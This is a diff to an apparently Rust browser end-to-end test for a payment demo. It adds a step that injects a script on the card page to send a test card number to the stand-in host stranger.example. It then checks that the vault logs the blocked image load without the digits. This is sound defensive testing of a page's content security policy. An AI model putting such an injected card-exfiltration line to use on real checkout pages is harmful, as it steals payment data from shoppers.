@@ -533,6 +533,7 @@ async fn habits() -> Result<()> {
     fill_checkout(&browser).await?;
     browser.click("form.checkout button[type=submit]").await?;
     browser.wait_for_url("/pay").await?;
+    what_the_card_page_keeps_out_is_told(&browser, &demo).await?;
     browser.click("a[href*='cancelled']").await?;
     browser.wait_for_url("/orders/").await?;
 
@@ -563,6 +564,28 @@ async fn habits() -> Result<()> {
     let books = oracle::bank_books(&demo, 0).await?;
     ensure!(books.totals.authorisations == 1, "{:?}", books.totals);
     browser.close().await
+}
+
+/// The browser itself reports to the vault what its page may not load.
+async fn what_the_card_page_keeps_out_is_told(browser: &Browser, demo: &Demo) -> Result<()> {
+    let stranger = "new Image().src = 'https://stranger.example/4111111111111111.png';";
+    browser.client.execute(stranger, Vec::new()).await?;
+    let folder = demo
+        .at
+        .mail
+        .ancestors()
+        .nth(2)
+        .context("the folder of the demonstration")?;
+    let begun = Instant::now();
+    while begun.elapsed() < Duration::from_secs(10) {
+        let log = std::fs::read_to_string(folder.join("logs/vault.log"))?;
+        if let Some(line) = log.lines().find(|line| line.contains("from the card page")) {
+            ensure!(line.contains("img-src") && !line.contains("4111"), "{line}");
+            return Ok(());
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    bail!("the vault's log says nothing of it")
 }
 
 async fn press(browser: &Browser, keys: &[char]) -> Result<()> {
